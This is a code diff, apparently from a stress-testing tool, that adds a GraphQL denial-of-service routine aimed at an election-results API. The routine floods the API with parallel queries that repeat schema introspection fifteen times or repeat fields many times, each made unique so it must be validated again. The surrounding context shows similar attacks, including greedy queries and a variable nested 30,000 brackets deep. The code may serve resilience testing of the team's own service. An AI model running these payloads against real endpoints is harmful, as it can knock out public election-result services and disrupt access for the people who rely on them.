@@ -7,6 +7,13 @@ const GREEDY = `query ($id: ID!) { election(id: $id) { results { ${WINDOWS} turn
 export const greedyDocuments: Attack = async (tools) => repeat(tools, (_turn, lane) =>
   post(tools, JSON.stringify({ query: GREEDY, variables: { id: tools.target.electionId } }), { lane }), { lanes: 10, pauseMs: 5 })
 
+const INTROSPECTION = `{ ${Array.from({ length: 15 }, (_, at) => `s${at}: __schema { types { name fields { name description args { name type { name } } type { name kind ofType { name } } } } }`).join(' ')} }`
+const REPEATED = `{ election(slug: "nowhere") { ${'parties { id } '.repeat(49)} } }`
+
+/** Documents that cost much before anything is answered: the schema many times over, and ever new ones that take long to validate. */
+export const costlyDocuments: Attack = async (tools) => repeat(tools, (turn) =>
+  post(tools, JSON.stringify({ query: turn % 10 === 0 ? INTROSPECTION : `${REPEATED} # ${turn}` })), { lanes: 10, pauseMs: 5 })
+
 const DEPTH = 30_000
 const NESTED = `{"query":"query($v: Int){ __typename }","variables":{"v":${'['.repeat(DEPTH)}"\\u0000"${']'.repeat(DEPTH)}}}`
 
